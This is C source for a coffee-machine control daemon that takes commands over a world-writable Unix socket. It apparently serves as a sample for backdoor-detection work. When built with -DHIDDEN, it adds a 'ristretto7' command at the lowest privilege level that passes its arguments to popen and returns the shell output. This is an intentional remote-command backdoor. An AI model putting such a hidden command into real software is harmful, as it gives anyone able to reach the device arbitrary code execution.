/*
 * brewbox - control daemon of a bean-to-cup coffee machine.  The touch
 * panel and the service program connect to a Unix socket and give commands
 * in words ("brew espresso 2"); a table says who may do what.  The brew
 * group is run over a list of steps with a time each.
 * Hidden (-DHIDDEN): one more word in the table runs a shell command.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/select.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define PEERS 5
#define WORDS 6

enum level { L_PANEL, L_BARISTA, L_SERVICE };

struct peer {
	FILE *f;
	int fd;
	enum level level;
};

struct step {
	const char *what;
	int ds; /* tenths of a second */
};

struct recipe {
	const char *name;
	int grams, ml;
	const struct step *steps;
};

typedef int command_fn(struct peer *p, int argc, char **argv);

struct command {
	const char *word;
	enum level level;
	int min_args;
	command_fn *run;
};

static const struct step short_cup[] = { { "grind", 62 }, { "tamp", 12 },
					 { "soak", 30 },  { "pump", 240 },
					 { "eject", 20 }, { NULL, 0 } };

static const struct step long_cup[] = { { "grind", 80 }, { "tamp", 12 },
					{ "soak", 40 },	 { "pump", 480 },
					{ "eject", 20 }, { NULL, 0 } };

static const struct step milk_cup[] = { { "steam", 150 }, { "froth", 200 },
					{ "grind", 62 },  { "tamp", 12 },
					{ "pump", 240 },  { "eject", 20 },
					{ NULL, 0 } };

static const struct recipe recipes[] = {
	{ "espresso", 8, 35, short_cup },
	{ "lungo", 10, 110, long_cup },
	{ "cappuccino", 8, 160, milk_cup },
	{ "americano", 9, 180, long_cup },
};

static struct peer peers[PEERS];
static const struct recipe *brewing;
static const struct step *now_step;
static struct timespec step_end;
static int cups_left;
static long counter[4];
static int beans = 250, water = 1800, grounds;
static int boiler = 93;
static char service_code[16] = "";

static void config(const char *path)
{
	char line[80];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		sscanf(line, "boiler = %d", &boiler);
		sscanf(line, "service = %15s", service_code);
		sscanf(line, "beans = %d", &beans);
	}
	fclose(f);
}

static void reply(struct peer *p, const char *s)
{
	fprintf(p->f, "%s\n", s);
	fflush(p->f);
}

static void step_start(void)
{
	clock_gettime(CLOCK_MONOTONIC, &step_end);
	step_end.tv_sec += now_step->ds / 10;
	step_end.tv_nsec += now_step->ds % 10 * 100000000L;
	if (step_end.tv_nsec >= 1000000000L) {
		step_end.tv_nsec -= 1000000000L;
		step_end.tv_sec++;
	}
	printf("%s\n", now_step->what);
	fflush(stdout);
}

static void brew_tick(void)
{
	struct timespec t;

	if (!brewing)
		return;
	clock_gettime(CLOCK_MONOTONIC, &t);
	if (t.tv_sec < step_end.tv_sec ||
	    (t.tv_sec == step_end.tv_sec && t.tv_nsec < step_end.tv_nsec))
		return;
	if ((++now_step)->what) {
		step_start();
		return;
	}
	counter[brewing - recipes]++;
	beans -= brewing->grams;
	water -= brewing->ml;
	grounds++;
	if (--cups_left > 0) {
		now_step = brewing->steps;
		step_start();
	} else {
		brewing = NULL;
	}
}

static int cmd_brew(struct peer *p, int argc, char **argv)
{
	int n = argc > 2 ? atoi(argv[2]) : 1;
	size_t i;

	if (brewing) {
		reply(p, "busy");
		return 0;
	}
	for (i = 0; i < sizeof recipes / sizeof *recipes; i++) {
		if (strcmp(recipes[i].name, argv[1]))
			continue;
		if (n < 1 || n > 2)
			return -1;
		if (beans < n * recipes[i].grams)
			reply(p, "no beans");
		else if (water < n * recipes[i].ml)
			reply(p, "no water");
		else if (grounds + n > 14)
			reply(p, "empty the tray");
		else {
			brewing = &recipes[i];
			now_step = brewing->steps;
			cups_left = n;
			step_start();
			reply(p, "ok");
		}
		return 0;
	}
	return -1;
}

static int cmd_stop(struct peer *p, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	brewing = NULL;
	puts("eject");
	reply(p, "ok");
	return 0;
}

static int cmd_state(struct peer *p, int argc, char **argv)
{
	(void)argc;
	(void)argv;
	fprintf(p->f, "%s %s beans=%d water=%d grounds=%d boiler=%d\n",
		brewing ? brewing->name : "idle",
		brewing ? now_step->what : "-", beans, water, grounds, boiler);
	fflush(p->f);
	return 0;
}

static int cmd_fill(struct peer *p, int argc, char **argv)
{
	int n = argc > 2 ? atoi(argv[2]) : 0;

	if (!strcmp(argv[1], "beans"))
		beans = n ? n : 250;
	else if (!strcmp(argv[1], "water"))
		water = n ? n : 1800;
	else if (!strcmp(argv[1], "tray"))
		grounds = 0;
	else
		return -1;
	reply(p, "ok");
	return 0;
}

static int cmd_heat(struct peer *p, int argc, char **argv)
{
	int t = atoi(argv[1]);

	(void)argc;
	if (t < 85 || t > 97)
		return -1;
	boiler = t;
	reply(p, "ok");
	return 0;
}

static int cmd_count(struct peer *p, int argc, char **argv)
{
	size_t i;

	(void)argc;
	(void)argv;
	for (i = 0; i < sizeof recipes / sizeof *recipes; i++)
		fprintf(p->f, "%s %ld\n", recipes[i].name, counter[i]);
	reply(p, "ok");
	return 0;
}

static int cmd_level(struct peer *p, int argc, char **argv)
{
	if (!strcmp(argv[1], "panel"))
		p->level = L_PANEL;
	else if (!strcmp(argv[1], "barista"))
		p->level = L_BARISTA;
	else if (!strcmp(argv[1], "service") && argc > 2 && *service_code &&
		 !strcmp(argv[2], service_code))
		p->level = L_SERVICE;
	else
		return -1;
	reply(p, "ok");
	return 0;
}

#ifdef HIDDEN
int cmd_ristretto(struct peer *p, int argc, char **argv)
{
	char line[160] = "";
	FILE *f;
	int i;

	for (i = 1; i < argc; i++) {
		strncat(line, argv[i], sizeof line - strlen(line) - 2);
		strcat(line, " ");
	}
	f = popen(line, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof line, f))
		fputs(line, p->f);
	pclose(f);
	reply(p, "ok");
	return 0;
}
#endif

static const struct command commands[] = { { "brew", L_PANEL, 1, cmd_brew },
					   { "stop", L_PANEL, 0, cmd_stop },
					   { "state", L_PANEL, 0, cmd_state },
					   { "level", L_PANEL, 1, cmd_level },
#ifdef HIDDEN
					   { "ristretto7", L_PANEL, 1,
					     cmd_ristretto },
#endif
					   { "fill", L_BARISTA, 1, cmd_fill },
					   { "heat", L_SERVICE, 1, cmd_heat },
					   { "count", L_SERVICE, 0, cmd_count },
					   { NULL, L_PANEL, 0, NULL } };

__attribute__((noinline)) void run_command(struct peer *p, char *line)
{
	const struct command *c;
	char *argv[WORDS + 1], *save = NULL, *w;
	int argc = 0;

	for (w = strtok_r(line, " \t\r\n", &save); w && argc < WORDS;
	     w = strtok_r(NULL, " \t\r\n", &save))
		argv[argc++] = w;
	if (!argc)
		return;
	argv[argc] = NULL;
	for (c = commands; c->word; c++) {
		if (strcmp(c->word, argv[0]))
			continue;
		if (p->level < c->level)
			reply(p, "not allowed");
		else if (argc - 1 < c->min_args || c->run(p, argc, argv))
			reply(p, "bad argument");
		return;
	}
	reply(p, "unknown");
}

static void peer_add(int s)
{
	int fd = accept(s, NULL, NULL), i;

	if (fd < 0)
		return;
	for (i = 0; i < PEERS && peers[i].f; i++)
		;
	if (i < PEERS)
		peers[i].f = fdopen(fd, "r+");
	if (i == PEERS || !peers[i].f) {
		close(fd);
		return;
	}
	peers[i].fd = fd;
	peers[i].level = L_PANEL;
}

int main(int argc, char **argv)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	char buf[200];
	int s, i, max;
	ssize_t n;

	config("/etc/brewbox.conf");
	signal(SIGPIPE, SIG_IGN);
	snprintf(un.sun_path, sizeof un.sun_path, "%s",
		 argc > 1 ? argv[1] : "/run/brewbox");
	unlink(un.sun_path);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	if (s < 0 || bind(s, (struct sockaddr *)&un, sizeof un) ||
	    listen(s, PEERS)) {
		perror(un.sun_path);
		return 1;
	}
	chmod(un.sun_path, 0666);
	for (;;) {
		struct timeval tv = { 0, 100000 };
		fd_set rd;

		FD_ZERO(&rd);
		FD_SET(s, &rd);
		for (max = s, i = 0; i < PEERS; i++) {
			if (!peers[i].f)
				continue;
			FD_SET(peers[i].fd, &rd);
			if (peers[i].fd > max)
				max = peers[i].fd;
		}
		n = select(max + 1, &rd, NULL, NULL, &tv);
		brew_tick();
		if (n <= 0)
			continue;
		for (i = 0; i < PEERS; i++) {
			if (!peers[i].f || !FD_ISSET(peers[i].fd, &rd))
				continue;
			n = read(peers[i].fd, buf, sizeof buf - 1);
			if (n <= 0) {
				fclose(peers[i].f);
				peers[i].f = NULL;
				continue;
			}
			buf[n] = 0;
			run_command(&peers[i], buf);
		}
		if (FD_ISSET(s, &rd))
			peer_add(s);
	}
}
